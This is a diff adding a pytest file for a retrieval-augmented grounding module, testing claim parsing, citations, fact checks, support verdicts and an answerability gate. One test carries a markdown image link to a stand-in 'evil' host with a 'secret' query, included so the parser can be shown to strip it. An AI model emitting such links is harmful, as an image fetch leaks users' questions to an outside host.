@@ -1,0 +1,208 @@
+"""Claims, evidence, hard checks, support and the gate."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rag.errors import BadInput
+from rag.grounding.calibration import Logistic, shipped
+from rag.grounding.checks import missing_facts, names, numbers
+from rag.grounding.claims import parse_draft, strip_markers
+from rag.grounding.evidence import EvidenceFinder, Source
+from rag.grounding.gate import answerable
+from rag.grounding.ground import ground, overall, verify_record
+from rag.grounding.support import judge
+from rag.types import Chunk, Hit, Passage
+
+GANS = (
+    "A GAN has two networks. The discriminator estimates the probability that a sample is real. "
+    "Ian Goodfellow and colleagues introduced GANs in 2014. The generator maps noise to images."
+)
+OTTERS = "Otters hold hands while they sleep. An otter eats 1,000 urchins a month."
+
+
+def passage(text: str, marker: int = 1, start: int = 0) -> Passage:
+    return Passage(marker, "a.md", 2, "ii", "Top", start, start + len(text), text, 1.0)
+
+
+def test_markers_become_hints_and_leave_the_text() -> None:
+    text, claims = parse_draft("GANs learn [1]. They compete.[2, 3] The end")
+    assert text == "GANs learn. They compete. The end"
+    assert [(text[slice(*claim.span)], set(claim.hints)) for claim in claims] == [
+        ("GANs learn.", {1}),
+        ("They compete.", {2, 3}),
+        ("The end", set()),
+    ]
+
+
+def test_a_marker_still_being_written_is_not_shown() -> None:
+    assert strip_markers("GANs learn [1") == "GANs learn"
+    assert strip_markers("GANs learn [1]. They") == "GANs learn. They"
+
+
+def test_images_and_links_are_taken_out_of_a_draft() -> None:
+    """A page would fetch an image, and so tell somebody what was asked."""
+    text, _ = parse_draft("See ![x](http://evil/?q=secret) the [notes](http://evil) now.")
+    assert "evil" not in text
+    assert text == "See  the notes now."
+
+
+@given(st.text(st.sampled_from(list("ab .[]12,\n!()")), max_size=80))
+def test_claim_spans_are_exact(draft: str) -> None:
+    text, claims = parse_draft(draft)
+    position = 0
+    for claim in claims:
+        start, end = claim.span
+        assert position <= start < end <= len(text)
+        position = end
+
+
+@pytest.mark.parametrize(
+    ("claim", "evidence", "missing"),
+    [
+        ("It began in 1962.", "It began in 1965.", ["1962"]),
+        ("It has 1000 parts.", "It has 1,000 parts.", []),
+        ("It has five parts.", "It has 5 parts.", []),  # words are not digits: nothing to check
+        ("It has 5 parts.", "It has five parts.", []),
+        ("It grew 12 %.", "It grew 13 %.", ["12"]),
+        ("Then Yann LeCun came.", "Then Ian Goodfellow came.", ["Yann LeCun"]),
+        ("The GAN learns.", "A generative adversarial network learns.", []),
+        ("The GANs learn.", "The GAN learns.", []),
+        ("It uses WaveNet.", "It uses Wave Net.", []),
+        ("It uses GPT-3 now.", "It uses GPT-3 now.", []),
+        ("It uses GPT-4 now.", "It uses GPT-3 now.", ["4", "GPT-4"]),
+        ('He said "the sky is falling" then.', "The sky is blue.", ["the sky is falling"]),
+        ('He said "the sky is blue" then.', "He said: the sky is blue.", []),
+    ],
+)
+def test_hard_checks(claim: str, evidence: str, missing: list[str]) -> None:
+    reasons = missing_facts(claim, evidence)
+    assert len(reasons) == len(missing)
+    for what, reason in zip(missing, reasons, strict=True):
+        assert what in reason
+
+
+def test_numbers_and_names() -> None:
+    assert numbers("From 1,000 to 2.5, seven") == {"1000", "2.5", "7"}
+    assert names("The Wasserstein GAN of Martin Arjovsky uses DCGAN.") == [
+        "Wasserstein GAN",
+        "Martin Arjovsky",
+        "DCGAN",
+    ]
+    assert names("Training is slow.") == []
+
+
+def test_evidence_is_chosen_from_the_claim() -> None:
+    finder = EvidenceFinder([Source(OTTERS), Source(GANS, "GANs")])
+    found = finder.find("GANs were introduced in 2014 by Ian Goodfellow.")
+    (sentence,) = found.sentences
+    assert sentence.source == 1
+    assert GANS[slice(*sentence.span)].startswith("Ian Goodfellow")
+
+
+def test_a_claim_built_from_two_passages_cites_both() -> None:
+    finder = EvidenceFinder([Source(OTTERS), Source(GANS, "GANs")])
+    found = finder.find("Otters hold hands in sleep, and the generator maps noise to images.")
+    assert {sentence.source for sentence in found.sentences} == {0, 1}
+
+
+def test_a_hint_only_settles_ties() -> None:
+    """A model's marker that points at the wrong passage changes nothing."""
+    same = EvidenceFinder([Source(OTTERS), Source(OTTERS)])
+    assert same.find("Otters hold hands.", frozenset({1})).sentences[0].source == 1
+    finder = EvidenceFinder([Source(OTTERS), Source(GANS)])
+    assert finder.find("Otters hold hands in sleep.", frozenset({1})).sentences[0].source == 0
+
+
+@pytest.mark.parametrize(
+    ("claim", "verdict"),
+    [
+        ("The discriminator estimates the probability that a sample is real.", "supported"),
+        ("Ian Goodfellow and colleagues introduced GANs in 2015.", "partial"),
+        ("Bananas grow on Mars beside castles.", "unsupported"),
+    ],
+)
+def test_verdicts(claim: str, verdict: str) -> None:
+    finder = EvidenceFinder([Source(GANS)])
+    judgement = judge(claim, finder.find(claim), finder)
+    assert judgement.verdict == verdict
+    assert (judgement.verdict == "supported") == (judgement.reasons == ())
+
+
+def test_more_agreement_never_lowers_support() -> None:
+    scale = shipped("support")
+    low = scale.probability({"best_sentence": 0.4, "pairs": 0.2, "missing": 0.3})
+    high = scale.probability({"best_sentence": 0.6, "pairs": 0.3, "missing": 0.0})
+    assert 0 < low < high < 1
+
+
+def test_a_scale_refuses_other_features() -> None:
+    with pytest.raises(ValueError, match="are not"):
+        Logistic(0, {"a": 1}).probability({"b": 1})
+
+
+def test_citations_resolve_into_the_document() -> None:
+    document = "Preface. " + GANS
+    shown = passage(GANS, marker=3, start=9)
+    text, claims = parse_draft("The generator maps noise to images [3].")
+    (claim,) = ground(text, claims, [shown])
+    (citation,) = claim.citations
+    assert document[citation.start : citation.end] == citation.quote
+    assert citation.quote == "The generator maps noise to images."
+    assert (citation.marker, citation.page, citation.page_label) == (3, 2, "ii")
+    assert text[claim.start : claim.end] == claim.text
+
+
+def test_an_answer_is_as_good_as_its_weakest_claim() -> None:
+    text, parsed = parse_draft(GANS + " Bananas grow on Mars beside castles.")
+    claims = ground(text, parsed, [passage(GANS)])
+    assert overall(claims)[0] == "partial"
+    assert overall(claims)[1] == min(claim.support for claim in claims)
+    assert overall([]) == ("unsupported", 0.0)
+
+
+def test_verify_record_follows_the_contract() -> None:
+    answer = "The generator maps noise to images [1]. Otters eat 2,000 urchins."
+    result = verify_record({"id": "x", "passages": [GANS, OTTERS], "answer": answer})
+    assert result["id"] == "x"
+    first, second = result["claims"]
+    assert answer[first["start"] : first["end"]] == first["text"]
+    assert first["verdict"] == "supported"
+    assert second["verdict"] != "supported"
+    assert "2,000" in second["reasons"][0]
+    for claim in result["claims"]:
+        for citation in claim["citations"]:
+            source = [GANS, OTTERS][citation["passage"]]
+            assert source[citation["start"] : citation["end"]] == citation["quote"]
+
+
+@pytest.mark.parametrize(
+    "record",
+    [{}, {"passages": "text", "answer": "a"}, {"passages": [1], "answer": "a"}, {"passages": []}],
+)
+def test_verify_record_names_the_bad_field(record: dict[str, object]) -> None:
+    with pytest.raises(BadInput, match=r"'passages'|'answer'"):
+        verify_record(record)
+
+
+def test_verify_takes_an_empty_answer() -> None:
+    assert verify_record({"passages": [GANS], "answer": ""})["verdict"] == "unsupported"
+
+
+def hit(text: str, dense: float, lexical: float) -> Hit:
+    return Hit(Chunk(1, "a.md", None, None, "", 0, len(text), text), 1.0, dense, lexical)
+
+
+def test_the_gate_opens_for_what_was_found_only() -> None:
+    def frequency(word: str) -> int:
+        return 5
+
+    near = answerable(
+        "What does the discriminator estimate?", [hit(GANS, 0.7, 9.0)], 100, frequency
+    )
+    far = answerable("Who won the cup final?", [hit(GANS, 0.05, 0.0)], 100, frequency)
+    assert far < 0.1
+    assert near > 0.7
+    assert answerable("Anything?", [], 100, frequency) == 0.0
